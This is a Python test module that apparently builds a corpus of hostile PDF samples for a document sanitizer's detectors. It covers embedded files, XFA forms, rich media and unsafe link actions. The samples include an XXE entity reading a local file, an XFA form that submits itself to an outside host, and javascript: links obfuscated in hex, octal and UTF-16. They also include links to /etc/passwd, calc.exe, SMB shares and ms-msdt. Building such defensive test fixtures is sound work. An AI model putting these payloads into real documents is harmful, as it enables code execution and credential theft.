"""Hostile PDFs that carry what is no page: attachments, dynamic forms, films, models; and links that lead astray."""

from io import BytesIO

from pypdf import PdfReader, PdfWriter

from tests.documents.building import stream, typeset
from tests.documents.corpus.places import (
    WEB,
    acting,
    annotated,
    in_catalog,
    on_page,
    rewritten,
)
from tests.documents.corpus.sample import HTML, MADE_UP_PROGRAM, bad


def _attached() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(typeset())))
    writer.add_attachment("a.exe", MADE_UP_PROGRAM)
    return rewritten(writer)


def _xfa(template: bytes) -> bytes:
    return in_catalog(b"/AcroForm<</Fields[]/XFA[(template)5 0 R]>>", {5: stream(template)})


def _linking(address: bytes) -> bytes:
    return acting(b"/S/URI/URI" + address)


CARRIED = (
    bad("embedded_file", "PDF with attachment by pypdf", _attached),
    bad(
        "embedded_file",
        "PDF with attachment as a note",
        lambda: annotated(b"/Subtype/FileAttachment/FS<</EF<</F 4 0 R>>>>"),
    ),
    bad("embedded_file", "PDF with attachment of a page", lambda: on_page(b"/AF[<</Type/Filespec/EF<</F 4 0 R>>>>]")),
    bad(
        "embedded_file",
        "PDF with attachment nobody points to",
        lambda: in_catalog(b"", {5: stream(HTML, b"/Type/EmbeddedFile")}),
    ),
    bad("embedded_file", "PDF with related files", lambda: in_catalog(b"/X<</Type/Filespec/RF<</F[(a)4 0 R]>>>>")),
    bad("embedded_file", "PDF portfolio", lambda: in_catalog(b"/Collection<</View/T>>")),
    bad(
        "embedded_file",
        "PDF whose attachments are behind two references",
        lambda: in_catalog(b"/Names 5 0 R", {5: b"<</EmbeddedFiles 6 0 R>>", 6: b"<</Names[]>>"}),
    ),
    bad(
        "xfa_form", "PDF with XFA form", lambda: in_catalog(b"/AcroForm<</Fields[]/XFA 5 0 R>>", {5: stream(b"<xdp/>")})
    ),
    bad(
        "xfa_form",
        "PDF with XFA that sends itself",
        lambda: _xfa(b"<submit target='http://example.cn' xdpContent='pdf'/>"),
    ),
    bad(
        "xfa_form", "PDF with XFA and a style sheet elsewhere", lambda: _xfa(b"<?xml-stylesheet href='//host/a.xslt'?>")
    ),  # CVE-2019-7089
    bad(
        "xfa_form",
        "PDF with XFA and FormCalc",
        lambda: _xfa(b"<script contentType='application/x-formcalc'>Post('x')</script>"),
    ),
    bad(
        "xfa_form",
        "PDF with XFA and an outer entity",
        lambda: _xfa(b"<!DOCTYPE a[<!ENTITY b SYSTEM 'file:///c:/a'>]><a>&b;</a>"),
    ),
    bad(
        "xfa_form",
        "PDF with XFA behind a reference to its form",
        lambda: in_catalog(b"/AcroForm 5 0 R", {5: b"<</XFA 6 0 R>>", 6: b"[]"}),
    ),
    bad("rich_media", "PDF with rich media", lambda: annotated(b"/Subtype/RichMedia")),
    bad(
        "rich_media",
        "PDF with Flash",
        lambda: annotated(b"/Subtype/X/RichMediaContent<</Configurations[<</Subtype/Flash>>]>>"),
    ),
    bad("rich_media", "PDF with a film", lambda: annotated(b"/Subtype/Movie/Movie<<>>")),
    bad("rich_media", "PDF with a sound", lambda: annotated(b"/Subtype/Sound/Sound 4 0 R")),
    bad("rich_media", "PDF that plays a sound", lambda: acting(b"/S/Sound/Sound 4 0 R")),
    bad("rich_media", "PDF that plays a film", lambda: acting(b"/S/Movie/T(a)")),
    bad("rich_media", "PDF with a screen", lambda: annotated(b"/Subtype/Screen/MK<<>>")),
    bad("rich_media", "PDF with a 3D model", lambda: annotated(b"/Subtype/3D")),
    bad(
        "rich_media",
        "PDF with a 3D model's data alone",
        lambda: in_catalog(b"", {5: stream(b"U3D\0", b"/Type/3D/Subtype/U3D")}),
    ),
    bad("rich_media", "PDF that turns a 3D model", lambda: acting(b"/S/GoTo3DView/V/F")),
    bad("rich_media", "PDF that commands its media", lambda: acting(b"/S/RichMediaExecute/CMD<</C(a)>>")),
)

LINKS = (
    bad("unsafe_link", "PDF with a link that runs", lambda: _linking(b"(java\\nscript:alert\\(1\\))")),
    bad("unsafe_link", "PDF with a link that runs, in capitals", lambda: _linking(b"(  JaVaScRiPt:confirm\\(2\\))")),
    bad("unsafe_link", "PDF with a link that runs, in hexadecimal", lambda: _linking(b"<6A617661736372697074 3A61>")),
    bad("unsafe_link", "PDF with a link that runs, in octal", lambda: _linking(b"(\\152\\141vascript:a)")),
    bad(
        "unsafe_link",
        "PDF with a link that runs, in UTF-16",
        lambda: _linking(b"<FEFF%s>" % "javascript:a".encode("utf-16-be").hex().encode()),
    ),
    bad(
        "unsafe_link",
        "PDF with a link that runs, beside a byte of no character",
        lambda: _linking(b"(javascript:a//\x7f\x9f\xad)"),
    ),
    bad(
        "unsafe_link",
        "PDF with a link that runs, behind a reference",
        lambda: acting(b"/S/URI/URI 6 0 R", {6: b"(vbscript:a)"}),
    ),
    bad(
        "unsafe_link", "PDF with a link to a page in itself", lambda: _linking(b"(data:text/html;base64,PHNjcmlwdD4=)")
    ),
    bad("unsafe_link", "PDF with a link to a file", lambda: _linking(b"(FILE:///etc/passwd)")),
    bad("unsafe_link", "PDF with a link to a program by its path", lambda: _linking(b"(C:/Windows/system32/calc.exe)")),
    bad(
        "unsafe_link",
        "PDF with a link in the words of a command",
        lambda: _linking(b"(START C:/Windows/system32/calc.exe)"),
    ),
    bad("unsafe_link", "PDF with a link to a share", lambda: _linking(b"(\\\\\\\\host\\\\share)")),
    bad("unsafe_link", "PDF with a link to a share by slashes", lambda: _linking(b"(//host/share)")),
    bad("unsafe_link", "PDF with a link to a share by SMB", lambda: _linking(b"(smb://host/share)")),
    bad("unsafe_link", "PDF with a link into Office", lambda: _linking(b"(ms-word:ofe|u|http://example.cn/a.docm)")),
    bad(
        "unsafe_link",
        "PDF with a link into the search of Windows",
        lambda: _linking(b"(search-ms:query=a&crumb=location:host)"),
    ),
    bad(
        "unsafe_link", "PDF with a link into the diagnosis of Windows", lambda: _linking(b"(ms-msdt:/id PCWDiagnostic)")
    ),
    bad("unsafe_link", "PDF with a link to a directory service", lambda: _linking(b"(ldap://host/a)")),
    bad("unsafe_link", "PDF with a link within a link", lambda: _linking(b"(view-source:http://example.cn)")),
    bad("unsafe_link", "PDF with a link to compiled help", lambda: _linking(b"(mk:@MSITStore:a.chm::/a.htm)")),
    bad("unsafe_link", "PDF with a link into an app", lambda: _linking(b"(weixin://dl/business)")),
    bad("unsafe_link", "PDF with markup for a link", lambda: _linking(b'("><script>alert\\(1\\)</script>)')),
    bad("unsafe_link", "PDF whose links all begin with a script", lambda: in_catalog(b"/URI<</Base(javascript:)>>")),
    bad(
        "unsafe_link",
        "PDF with a second action's link that runs",
        lambda: acting(b"/S/URI/URI(%s)/Next<</S/URI/URI(jar:file:a)>>" % WEB),
    ),
)

SAMPLES = CARRIED + LINKS
